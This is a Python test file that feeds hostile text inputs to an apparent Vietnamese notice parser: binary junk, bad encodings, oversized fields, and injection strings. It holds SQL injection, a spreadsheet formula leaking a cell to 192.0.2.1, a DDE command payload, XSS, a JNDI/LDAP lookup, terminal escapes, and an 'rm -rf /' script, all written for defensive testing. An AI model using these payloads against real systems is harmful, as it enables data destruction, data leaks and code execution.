"""Hostile text files: bytes that are no text, text that is too much, and words that attack who prints or stores them."""

from __future__ import annotations

import random
from collections.abc import Callable

from tests.hostile.case import NO_NOTICE, PUBLISHED, Case, nothing, notice, text

ESCAPES = "\x1b]0;owned\x07\x1b[31mĐỎ\x1b[2J\x9b1mC1\x08\x08\x7f"
SQL = "'; DROP TABLE notice; --\"); DELETE FROM directive WHERE ('1'='1"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"bấm vào đây")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>[bold red]{{7*7}}${jndi:ldap://192.0.2.1/a}%s%n"
TURNED = "\u202etxt.fdp\u2066\u200f\u202d"


def every_field(number: int, attack: str) -> Callable[[], bytes]:
    fields = dict.fromkeys(("place", "about", "meeting", "who", "recipient", "archive", "signer"), attack)
    tasks = f"3. {attack}\n4. Giao {attack} báo cáo {attack} trước ngày 01/9/2023.\n"
    return lambda: notice(number, office=f"VĂN PHÒNG {attack}", tasks=tasks, **fields).encode()


def random_bytes(size: int) -> bytes:
    return random.Random(7).randbytes(size)


def many_tasks(number: int, count: int) -> bytes:
    tasks = "".join(f"{n}. Giao Sở Y tế báo cáo nội dung thứ {n} trước ngày 15/9/2023.\n" for n in range(3, count + 3))
    return notice(number, tasks=tasks).encode()


def deep_numbers(number: int) -> bytes:
    tasks = "".join(f"{'.'.join(['1'] * depth)}. Giao Sở Y tế làm việc {depth}.\n" for depth in (*range(2, 60), 2000))
    return notice(number, tasks=tasks).encode()


def nested_marks(number: int) -> bytes:
    marks = (
        "**_" * 5_000
        + "việc"
        + "_**" * 5_000
        + "\n"
        + "> " * 5_000
        + "- " * 2_000
        + "[" * 5_000
        + "(" * 5_000
        + "`" * 999
    )
    return ("# " + notice(number, tasks=marks + "\n" + "#" * 5_000 + " a\n")).encode()


def nul_late(number: int) -> bytes:
    return notice(number, tasks="3. Giao Sở Y tế báo cáo.\n" * 120 + "4. Giao Sở Y\x00 tế\x01 báo\x02 cáo.\n").encode()


def cases() -> tuple[Case, ...]:
    unreadable = ("unsupported_format",)
    slow = "document_timeout"  # on a machine under load, with the short deadline of this run
    words = "Các đơn vị khẩn trương triển khai thực hiện nhiệm vụ được giao theo quy định hiện hành "
    return (
        Case("texts/zero-bytes.txt", nothing, ("empty_document",)),
        Case("texts/only-spaces.txt", lambda: b" \n\t\r\n" * 5_000, ("empty_document",)),
        Case("texts/only-nul.txt", lambda: b"\x00" * 5_000, ("empty_document",)),
        Case("texts/random-bytes.txt", lambda: random_bytes(9_000), unreadable),
        Case("texts/random-bytes.pdf", lambda: random_bytes(9_001), unreadable),
        Case("texts/a-text-named.pdf", text(1001), PUBLISHED),
        Case("texts/a-text-named.docx", text(1002), PUBLISHED),
        Case("texts/no-ending", text(1003), PUBLISHED),
        Case("texts/elf-named.txt", lambda: b"\x7fELF" + bytes(200), unreadable),
        Case("texts/exe-named.pdf", lambda: b"MZ" + bytes(200), unreadable),
        Case("texts/gzip-named.txt", lambda: b"\x1f\x8b\x08" + random_bytes(300), unreadable),
        Case("texts/rtf-named.txt", lambda: b"{\\rtf1 " + notice(1).encode() + b"}", unreadable),
        Case("texts/empty-lines.txt", lambda: b"\n" * 50_000 + notice(1004).encode() + b"\n" * 50_000, PUBLISHED),
        Case("texts/nul-early.txt", lambda: notice(1005, place="An\x00 Phú").encode(), ("published", *unreadable)),
        Case("texts/nul-late.txt", lambda: nul_late(1006), PUBLISHED),
        Case("texts/bell-and-backspace.txt", text(1007, about="a\x07\x08\x0b\x0e\x0fb dự án"), PUBLISHED),
        Case("texts/overrides.txt", every_field(1008, TURNED), PUBLISHED),
        Case("texts/escapes.txt", every_field(1009, ESCAPES), PUBLISHED),
        Case("texts/sql.txt", every_field(1010, SQL), PUBLISHED),
        Case("texts/formula.txt", every_field(1011, FORMULA), PUBLISHED),
        Case("texts/dde.txt", every_field(1012, DDE), PUBLISHED),
        Case("texts/plus.txt", every_field(1013, "+84*cmd"), PUBLISHED),
        Case("texts/minus-tab.txt", every_field(1014, "\t-2+3"), PUBLISHED),
        Case("texts/markup.txt", every_field(1015, MARKUP), PUBLISHED),
        Case("texts/two-megabytes-one-line.txt", lambda: (words * 15_000)[:2_000_000].encode(), ("not_a_notice", slow), ocr=True),
        Case("texts/two-megabytes-in-an-item.txt", text(1016, tasks="3. " + words * 11_000 + "\n"), ("published", slow), ocr=True),
        Case("texts/one-word-of-a-megabyte.txt", text(1017, meeting="a" * 1_000_000 + ". "), PUBLISHED),
        Case("texts/digits.txt", text(1018, meeting="9" * 300_000 + "/2023 ngày " + "1/" * 50_000 + ". "), PUBLISHED),
        Case("texts/parentheses.txt", text(1019, meeting="(" * 20_000 + "[" * 20_000 + '"“' * 10_000), PUBLISHED),
        Case("texts/accents.txt", text(1020, meeting="a" + "\u0301\u0302\u0323" * 20_000 + " "), PUBLISHED),
        Case("texts/invalid-utf8.txt", lambda: notice(1021).encode().replace(b"\xc4", b"\xff\xfe"), ("not_a_notice", *unreadable)),
        Case("texts/one-damaged-letter.txt", lambda: notice(1036).encode().replace(b"\xc4", b"\xff", 1), PUBLISHED),
        Case("texts/utf16-no-mark.txt", lambda: notice(1022).encode("utf-16-le"), PUBLISHED),
        Case("texts/utf16-big-no-mark.txt", lambda: notice(1023).encode("utf-16-be"), PUBLISHED),
        Case("texts/utf16-odd-length.txt", lambda: b"\xff\xfe" + notice(1024).encode("utf-16-le") + b"a", PUBLISHED),
        Case("texts/surrogates-utf16.txt",
             lambda: b"\xff\xfe" + notice(1025, about="\ud800 dự án \udc00\udbff").encode("utf-16-le", "surrogatepass"), PUBLISHED),
        Case("texts/surrogates-utf8.txt", lambda: notice(1026, about="\ud800 dự án").encode("utf-8", "surrogatepass"), PUBLISHED),
        Case("texts/noncharacters.txt", every_field(1027, "\ufffe\uffff\ufdd0\ue000\U0010ffff"), PUBLISHED),
        Case("texts/nested-marks.md", lambda: nested_marks(1028), PUBLISHED),
        Case("texts/deep-numbers.txt", lambda: deep_numbers(1029), PUBLISHED),
        Case("texts/five-thousand-tasks.txt", lambda: many_tasks(1030, 5_000), PUBLISHED, ocr=True),
        Case("texts/five-hundred-tasks.txt", lambda: many_tasks(1031, 500), PUBLISHED),
        Case("texts/twenty-thousand-words.txt", text(1032, meeting=words * 1_200), PUBLISHED),
        Case("texts/ten-thousand-pages.txt", lambda: notice(1033).encode() + b"\x0ca" * 10_000, PUBLISHED, ocr=True),
        Case("texts/a-wide-table.md", text(1034, tasks="|" * 30_000 + "\n" + "| a " * 10_000 + "|\n|---|\n"), PUBLISHED),
        Case("texts/days-that-never-were.txt",
             text(1035, meeting="Ngày 45/13/99999, ngày 31 tháng 2 năm 0000. ", tasks="3. Sở Y tế báo cáo trước ngày 30/02/2023, "
                  "trong 99999999999 ngày, hằng năm từ năm 0 đến năm 99999999.\n"), PUBLISHED),
        Case("texts/page.html", lambda: b"<html><script>alert(1)</script><p>trang web</p></html>", NO_NOTICE),
        Case("texts/a-program.txt", lambda: b"#!/bin/sh\nrm -rf /\n$(touch owned)`touch owned`\n" * 20, NO_NOTICE),
    )  # fmt: skip
